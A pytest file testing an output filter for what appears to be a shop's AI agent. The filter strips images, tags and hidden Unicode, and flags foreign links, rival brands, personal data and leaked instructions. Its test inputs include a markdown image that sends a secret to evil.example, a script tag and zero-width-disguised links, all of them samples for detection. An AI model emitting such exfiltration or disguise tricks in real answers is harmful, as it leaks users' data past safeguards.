"""The last look at an answer."""

import pytest

from shared.grounds.output import Guard, forbidden, plain, without
from shared.grounds.problem import Problem

GUARD = Guard(
    links=frozenset({"https://shop.example/", "https://pay.example/p/1"}),
    other_names=frozenset({"Max", "Agent Store Tech"}),
    instructions=("Never say that an order was placed before the shop itself has said so.",),
    public=("Write to help@shop.example or call +1 555 000 1111.",),
    said="my number is +1 555 222 3333",
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Look: ![x](https://evil.example/?q=secret) nice", "Look:  nice"),
        ("See [our page](https://evil.example)", "See our page https://evil.example"),
        ("<b>Bold</b> <script>alert(1)</script>", "Bold alert(1)"),
        ("hidden\u202etext\u200b", "hiddentext"),
        ("3 < 5 and 7 > 2", "3 < 5 and 7 > 2"),
    ],
)
def test_pictures_tags_and_hidden_characters_go(text: str, shown: str) -> None:
    assert plain(text) == shown


@pytest.mark.parametrize(
    ("text", "kind", "said"),
    [
        ("Go to https://evil.example/x.", "link", "https://evil.example/x"),
        ("Go to www.evil.example now", "link", "www.evil.example"),
        ("Go to evil.com/pay now", "link", "evil.com/pay"),
        ("javascript://alert", "link", "javascript://alert"),
        ("https://shop.example.evil.example/", "link", "https://shop.example.evil.example/"),
        ("https://pay.example/p/12", "link", "https://pay.example/p/12"),
        ("Ask Max for a laptop.", "brand", "Max"),
        ("agent store tech has it", "brand", "Agent Store Tech"),
    ],
)
def test_foreign_links_and_other_brands_are_found(text: str, kind: str, said: str) -> None:
    assert Problem(kind, said) in forbidden(text, GUARD)  # pyright: ignore[reportArgumentType]


@pytest.mark.parametrize(
    "text",
    [
        "See https://shop.example/returns.",
        "Pay here: https://pay.example/p/1",
        "To the max: maximal comfort.",
        "Write to help@shop.example or call +1 555 000 1111.",
        "I'll note +1 555 222 3333.",
        "Aero Glide, $129.00, order FA-100001",
    ],
)
def test_links_of_the_shop_and_public_contacts_may_stay(text: str) -> None:
    assert forbidden(text, GUARD) == ()


@pytest.mark.parametrize(
    "text",
    [
        "Ana's e-mail is ana@mail.example.",
        "Call her at +1 555 999 8888.",
        "Her card is 4111 1111 1111 1111.",
        "Use sk-proj-abcdEFGH12345678.",
    ],
)
def test_people_s_data_is_found(text: str) -> None:
    assert forbidden(text, GUARD) == (Problem("person", text),)


def test_our_own_instructions_are_not_told() -> None:
    leak = "I was told: never say that an order was placed before the shop has spoken."

    assert forbidden(leak, GUARD) == (Problem("prompt", leak),)
    assert forbidden("An order was placed.", GUARD) == ()


def test_only_the_sentences_with_a_problem_go() -> None:
    text = "These run well. Ask Max!\nSee https://evil.example. They are light."

    assert without(text, forbidden(text, GUARD)) == "These run well.\nThey are light."


def test_nothing_is_left_of_an_answer_that_is_all_wrong() -> None:
    assert without("Ask Max.", (Problem("brand", "Max"),)) == ""
    assert without("All is well.", ()) == "All is well."


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("only $\u200b1\u2060.00", "only $1.00"),
        ("only \uff04\uff11\uff0e\uff10\uff10", "only $1.00"),
        ("pay at ev\u00adil\u200d.com", "pay at evil.com"),
        (
            "family \U0001f468\u200d\U0001f469\u200d\U0001f467 ❤\ufe0f",
            "family \U0001f468\u200d\U0001f469\u200d\U0001f467 ❤\ufe0f",
        ),
        ("\u200b \u202e", ""),
    ],
)
def test_what_hides_or_disguises_signs_is_gone_and_emoji_stay_whole(said: str, shown: str) -> None:
    assert plain(said) == shown
